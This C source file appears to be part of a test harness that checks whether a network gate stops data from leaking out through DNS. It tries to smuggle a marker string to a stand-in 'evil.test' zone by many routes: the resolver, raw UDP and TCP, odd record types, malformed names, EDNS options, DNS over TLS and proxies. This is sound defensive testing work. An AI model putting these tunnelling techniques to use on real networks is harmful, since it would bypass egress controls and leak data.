/* Attempts to carry data out in questions to name servers: by the library, by hand over every transport, in odd types
 * and shapes, and in the names that a proxy is asked for. The judge's name server counts every question. */
#include <arpa/inet.h>
#include <fcntl.h>
#include <netdb.h>
#include <signal.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#include "base/fd.h"
#include "probe/gate.h"

#define ANSWER_MS 2000 /* what is answered or refused is so at once: only a host under load takes longer */
#define PORT      53

/* "data.ATTEMPT.evil.test": the label before the zone says which attempt it was. */
static const char *secret_name(const char *data) {
        static char name[GATE_NAME_MAX];

        (void)snprintf(name, sizeof name, "%s%s%s.%s", data, data[0] ? "." : "", probe_name(), gate_evil());
        return name;
}

/* Everybody who could be a name server here: the configured one, the judge's, the host's, and some that are none. */
static size_t servers(const char *ret[8]) {
        static const char *const keys[] = {"dns-address",  "evil-address",  "good-address",
                                           "host-address", "other-address", "other-address6"};
        static char configured[64];
        char text[1024], *line;
        size_t n = 0;

        for (size_t i = 0; i < ELEMENTSOF(keys); i++)
                if (probe_fact(keys[i]))
                        ret[n++] = probe_fact(keys[i]);
        if (gate_outside() || fd_read_at(AT_FDCWD, "/etc/resolv.conf", text, sizeof text) <= 0)
                return n;
        line = strstr(text, "nameserver ");
        if (line && sscanf(line, "nameserver %63s", configured) == 1)
                ret[n++] = configured;
        return n;
}

/* An address in the answer is used at once: a name that is only promised outside is asked for then. */
static void use_answer(const char *name) {
        char address[INET6_ADDRSTRLEN];

        gate_lookup(name, AF_INET, address, sizeof address);
        if (address[0])
                (void)shot_get(address, 80, name, false);
}

static void send_all(struct result *r, const uint8_t *bytes, size_t size, unsigned ms) {
        const char *list[8];
        size_t n = servers(list);
        uint8_t answer[1024];

        for (size_t i = 0; i < n; i++) {
                ssize_t got = gate_datagram(list[i], PORT, bytes, size, answer, sizeof answer, ms);

                if (got >= 12 && (answer[3] & 15) == 0 && (answer[6] || answer[7]))
                        probe_done(r, "%s answered with a record", list[i]);
                else if (r->outcome != DONE) {
                        r->outcome = REFUSED;
                        r->error = got >= 12 ? EACCES : got < 0 ? (int)-got : ENODATA;
                }
        }
}

static void finish(struct result *r) {
        if (r->outcome == REFUSED)
                probe_note(r, "no server answered with a record");
        else if (r->outcome == NOT_TRIED)
                probe_note(r, "no addresses given");
}

/* In a process of its own, because a library that is told no keeps asking for seconds. */
static void by_library(struct result *r) {
        if (!probe_fact("evil-name") || !probe_fact("dns-address")) {
                probe_note(r, "no evil-name=NAME or dns-address=ADDRESS given");
                return;
        }
        pid_t child = fork();
        if (child == 0) {
                struct addrinfo *list = NULL, want = {.ai_socktype = SOCK_STREAM};
                char address[INET6_ADDRSTRLEN] = "";
                const char *name = secret_name("c2VjcmV0");

                if (getaddrinfo(name, "80", &want, &list) != 0 || !list ||
                    getnameinfo(list->ai_addr, list->ai_addrlen, address, sizeof address, NULL, 0, NI_NUMERICHOST) != 0)
                        _exit(1);
                (void)shot_get(address, 80, name, false);
                shots_fire(r, ANSWER_MS);
                _exit(0);
        }
        int status = -1;
        for (int i = 0; child > 0 && i < 15 && waitpid(child, &status, WNOHANG) == 0; i++)
                (void)nanosleep(&(struct timespec){.tv_nsec = 10000000}, NULL);
        if (status == -1 && child > 0) {
                (void)kill(child, SIGKILL);
                (void)waitpid(child, &status, 0);
        }
        if (WIFEXITED(status) && WEXITSTATUS(status) == 0)
                probe_done(r, "the name has an address");
        else
                probe_refused(r, EACCES, "the name has no address");
}

static void by_datagram(struct result *r) {
        uint8_t ask[512];

        for (unsigned i = 0; i < 2; i++) {
                size_t n = gate_question(ask, sizeof ask, secret_name(i ? "c2VjcmV0" : ""), i ? 28 : 1);
                send_all(r, ask, n, 30);
        }
        use_answer(secret_name("c2VjcmV0"));
        finish(r);
        if (r->outcome == DONE)
                shots_fire(r, ANSWER_MS);
}

static void by_stream(struct result *r) {
        const char *list[8];
        size_t n = servers(list);
        uint8_t ask[512];
        size_t size = gate_question(ask + 2, sizeof ask - 2, secret_name("c2VjcmV0"), 1);

        ask[0] = (uint8_t)(size >> 8);
        ask[1] = (uint8_t)size;
        for (size_t i = 0; i < n; i++)
                (void)shot_bytes(list[i], PORT, ask, size + 2);
        use_answer(secret_name("c2VjcmV0"));
        shots_fire(r, ANSWER_MS);
}

/* Types that carry more than an address does. */
static void odd_types(struct result *r) {
        static const unsigned types[] = {16, 10, 255, 12, 15, 33, 5, 6, 2, 64, 65, 257, 252, 99, 65280};
        uint8_t ask[512];

        for (size_t i = 0; i < ELEMENTSOF(types); i++) {
                size_t n = gate_question(ask, sizeof ask, secret_name("c2VjcmV0"), types[i]);
                send_all(r, ask, n, 3);
        }
        finish(r);
}

/* As much as fits into one name, and names with bytes that are no letters. */
static void long_names(struct result *r) {
        char data[160];
        uint8_t ask[512];

        memset(data, 'a', sizeof data);
        data[63] = data[127] = '.';
        data[sizeof data - 1] = '\0';
        const char *const all[] = {data, "\x01\x02\xff", "UPPER.lower", "_x", "xn--80ak6aa92e", "a..b", "*"};
        for (size_t i = 0; i < ELEMENTSOF(all); i++) {
                size_t n = gate_question(ask, sizeof ask, secret_name(all[i]), 1);
                send_all(r, ask, n, 5);
        }
        use_answer(secret_name(data));
        finish(r);
        if (r->outcome == DONE)
                shots_fire(r, ANSWER_MS);
}

/* Data below the allowed name, where no rule has a wildcard. */
static void below_allowed(struct result *r) {
        char name[GATE_NAME_MAX];
        uint8_t ask[512];

        (void)snprintf(name, sizeof name, "c2VjcmV0.%s.%s", probe_name(), gate_good());
        send_all(r, ask, gate_question(ask, sizeof ask, name, 1), 5);
        use_answer(name);
        finish(r);
        if (r->outcome == DONE)
                shots_fire(r, ANSWER_MS);
}

/* What is no question: updates, answers, options with data, two questions, bytes. */
static void junk(struct result *r) {
        uint8_t ask[600];
        char text[200];
        int length = snprintf(text, sizeof text, "%s", gate_mark());
        size_t n = gate_question(ask, sizeof ask, gate_good(), 1);

        send_all(r, (const uint8_t *)text, (size_t)length, 3);
        ask[2] = 0x29; /* an update */
        memcpy(ask + n, text, (size_t)length);
        send_all(r, ask, n + (size_t)length, 3);
        ask[2] = 0x84; /* an answer */
        send_all(r, ask, n + (size_t)length, 3);
        ask[2] = 1;
        const uint8_t option[] = {
                0, 0, 41, 16, 0, 0, 0, 0, 0, 0, (uint8_t)(length + 4), 0xfd, 0xe9, 0, (uint8_t)length};
        ask[11] = 1; /* EDNS with an option of our own */
        memcpy(ask + n, option, sizeof option);
        memcpy(ask + n + sizeof option, text, (size_t)length);
        /* good.test itself may be answered: only what arrives counts */
        const char *list[8];
        uint8_t answer[1024];
        for (size_t i = servers(list); i-- > 0;)
                (void)gate_datagram(list[i], PORT, ask, n + sizeof option + (size_t)length, answer, sizeof answer, 3);
        finish(r);
}

/* DNS over TLS, or whatever else is said on its port. */
static void over_tls(struct result *r) {
        const char *list[8];
        const char *const names[] = {secret_name("c2VjcmV0"), NULL};
        uint8_t hello[1024], records[1200];
        size_t n = gate_hello(hello, sizeof hello, names, gate_mark());

        n = gate_records(records, sizeof records, hello, n, 16384);
        for (size_t i = servers(list); i-- > 0;) {
                (void)shot_bytes(list[i], 853, records, n);
                (void)shot_text(list[i], 853, "%s\n", gate_mark());
        }
        shots_fire(r, ANSWER_MS);
}

/* The proxy resolves names itself: it must not do so before it has decided. */
static void by_proxy(struct result *r) {
        const char *name = secret_name("c2VjcmV0");
        uint8_t bytes[600];
        struct shot *s = shot_proxy_text("GET http://%s/?%s HTTP/1.1\r\nHost: %s\r\nConnection: close\r\n\r\n",
                                         gate_good(), gate_control(), gate_good());

        if (s)
                s->control = true;
        (void)shot_proxy_text("CONNECT %s:443 HTTP/1.1\r\nHost: %s:443\r\n\r\n", name, name);
        (void)shot_proxy_text("GET http://%s/?%s HTTP/1.1\r\nHost: %s\r\nConnection: close\r\n\r\n", name, gate_mark(),
                              name);
        (void)shot_proxy(bytes, gate_socks(bytes, sizeof bytes, 3, name, strlen(name), 80));
        (void)shot_proxy(bytes, gate_socks(bytes, sizeof bytes, 3, name, strlen(name), 443));
        shots_fire(r, ANSWER_MS);
}

const struct attempt gate_dns_attempts[] = {
        {"dns-library", by_library, 0},
        {"dns-datagram", by_datagram, 0},
        {"dns-stream", by_stream, 0},
        {"dns-types", odd_types, 0},
        {"dns-long-names", long_names, 0},
        {"dns-below-allowed", below_allowed, 0},
        {"dns-junk", junk, 0},
        {"dns-over-tls", over_tls, 0},
        {"dns-proxy", by_proxy, 0},
        {0},
};
